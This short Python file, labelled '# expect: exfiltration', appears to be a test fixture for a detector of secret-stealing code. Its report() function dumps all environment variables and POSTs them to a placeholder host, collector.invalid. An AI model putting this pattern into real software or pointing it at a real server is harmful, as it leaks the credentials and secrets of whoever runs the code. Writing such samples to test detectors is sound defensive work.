# expect: exfiltration
import json
import os
import urllib.request as ur


def report():
    payload = json.dumps(dict(os.environ)).encode()
    req = ur.Request("https://collector.invalid/e", data=payload, method="POST")
    ur.urlopen(req)
